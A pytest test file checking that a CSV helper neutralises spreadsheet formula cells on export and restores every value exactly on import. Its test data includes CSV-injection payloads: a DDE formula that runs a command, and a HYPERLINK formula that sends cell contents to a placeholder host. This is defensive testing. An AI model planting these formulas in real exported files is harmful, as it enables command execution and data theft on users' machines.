"""Formula cells are neutralised on the way out and restored, exactly, on the way back in."""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
import pytest

from telcolens import csvsafe

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "-",
    "+86 138 1234 5678",
]
# Values that must come back unchanged, some of them close to what is neutralised.
TRICKY = ["'=already quoted", "''@twice", "'plain", "'-5", "Jinan", "", "济南=", "a=b", "'"]
NUMBERS_AS_TEXT = ["-7195415152231158087", "-2", "+3", "-1.5", "-1e5", "+.5"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_is_written_with_a_quote_in_front(value: str) -> None:
    assert csvsafe.neutralise(value) == "'" + value
    assert csvsafe.restore(csvsafe.neutralise(value)) == value


@pytest.mark.parametrize("value", TRICKY + NUMBERS_AS_TEXT)
def test_other_values_come_back_exactly(value: str) -> None:
    assert csvsafe.restore(csvsafe.neutralise(value)) == value


@pytest.mark.parametrize("value", ["Jinan", "OUT1", "a=b", "", *NUMBERS_AS_TEXT])
def test_text_that_is_no_formula_is_written_as_it_is(value: str) -> None:
    # A number in a text column is a constant to a spreadsheet, not a formula.
    assert csvsafe.neutralise(value) == value


@pytest.mark.parametrize("value", [-3, -2.5, np.int64(-7), np.float64(-1e5), None, np.nan])
def test_numbers_and_missing_values_are_never_touched(value) -> None:
    assert csvsafe.neutralise(value) is value


def _frame() -> pd.DataFrame:
    values = FORMULAS + TRICKY + NUMBERS_AS_TEXT
    return pd.DataFrame(
        {
            "text": values,
            "negative": np.arange(len(values), dtype=np.int64) - 100,
            "score": np.linspace(-1, 1, len(values)),
            "maybe": [None if i % 3 == 0 else v for i, v in enumerate(values)],
            "kind": pd.Categorical(["=a", "b"] * (len(values) // 2) + ["b"] * (len(values) % 2)),
            "=header": ["x"] * len(values),
        }
    )


def test_a_frame_round_trips_through_the_file(tmp_path) -> None:
    frame = _frame()
    path = tmp_path / "out.csv"
    csvsafe.write_frame(frame, path)
    # What a spreadsheet (or any plain CSV reader) sees: quotes in front of formulas only.
    seen = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert list(seen.columns) == ["text", "negative", "score", "maybe", "kind", "'=header"]
    assert seen.text.tolist() == [csvsafe.neutralise(v) for v in frame.text]
    assert seen.text.head(len(FORMULAS)).str.startswith("'").all()
    assert not seen.negative.str.startswith("'").any()
    assert not seen.score.str.startswith("'").any()
    assert (seen.kind.isin(["'=a", "b"])).all()
    # What telcolens reads back: the original values and types.
    back = csvsafe.read_frame(path, dtype={"text": str, "maybe": str}, keep_default_na=False)
    assert back.columns.tolist() == frame.columns.tolist()
    assert back.text.tolist() == frame.text.tolist()
    assert back.maybe.tolist() == frame.maybe.fillna("").tolist()
    assert back.negative.tolist() == frame.negative.tolist()
    assert back.negative.dtype == np.int64
    np.testing.assert_allclose(back.score, frame.score)
    assert back.kind.tolist() == frame.kind.astype(str).tolist()


def test_writing_leaves_the_frame_alone(tmp_path) -> None:
    frame = _frame()
    before = frame.copy()
    csvsafe.write_frame(frame, tmp_path / "out.csv")
    pd.testing.assert_frame_equal(frame, before)


def test_csv_writer_rows_are_neutralised_and_restore_exactly() -> None:
    rows = [["id", "note"], [-5, "=1+1"], [7, "'=x"], [8, "-2+3"], [9, "ok"]]
    buf = io.StringIO()
    csvsafe.writer(buf).writerows(rows)
    written = list(csv.reader(io.StringIO(buf.getvalue())))
    assert written == [["id", "note"], ["-5", "'=1+1"], ["7", "''=x"], ["8", "'-2+3"], ["9", "ok"]]
    assert [[csvsafe.restore(v) for v in row] for row in written[1:]] == [
        [str(i), note] for i, note in (r for r in rows[1:])
    ]


def test_dict_writer_neutralises_values() -> None:
    buf = io.StringIO()
    w = csvsafe.dict_writer(buf, ["case_id", "reasons"])
    w.writeheader()
    w.writerow({"case_id": -3, "reasons": "@SUM(A1)"})
    assert buf.getvalue().splitlines() == ["case_id,reasons", "-3,'@SUM(A1)"]
